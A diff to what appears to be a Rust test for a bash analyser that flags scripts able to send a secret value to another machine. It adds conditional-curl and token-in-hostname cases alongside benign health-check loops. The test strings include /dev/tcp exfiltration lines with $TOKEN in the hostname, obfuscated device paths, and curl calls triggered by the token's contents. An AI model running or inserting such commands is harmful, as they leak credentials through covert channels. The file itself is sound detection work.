@@ -318,6 +318,12 @@ fn what_may_tell_a_value_to_another_machine_is_noticed() {
         "cat < \"/dev/tcp/$TOKEN.example.com/80\"",
         "cat < /dev/ud'p'/example.com/80",
         "h=/dev; cat < \"$h/tcp/example.com/80\"",
+        "if echo \"$TOKEN\" | grep -q a; then curl https://example.com/a; fi",
+        "echo \"$TOKEN\" | grep -q a && curl https://example.com/a",
+        "printf %d \"$TOKEN\" && curl https://example.com/a",
+        "for part in $TOKEN; do curl https://example.com/a; done",
+        "while curl https://example.com/a; do grep -q a .env && exit; done",
+        "x=${TOKEN#a}; : ${x:?}; curl https://example.com/a",
     ] {
         let found = bash(script);
         assert!((found.sends.is_some() || found.effect > Effect::Read), "{script}: {found:?}");
@@ -327,6 +333,9 @@ fn what_may_tell_a_value_to_another_machine_is_noticed() {
         "version=$(gh release list | head -1); [ -n \"$version\" ]",
         "aws sts get-caller-identity",
         "echo $TOKEN | wc -c",
+        "curl -fsS https://example.com/up && curl -fsS https://example.com | grep -q ok",
+        "for i in 1 2 3; do curl -fsS https://example.com/up && break; sleep 2; done",
+        "echo waiting; until curl -fsS https://example.com/up; do sleep 1; done",
     ] {
         assert_eq!(bash(script).sends, None, "{script}");
     }
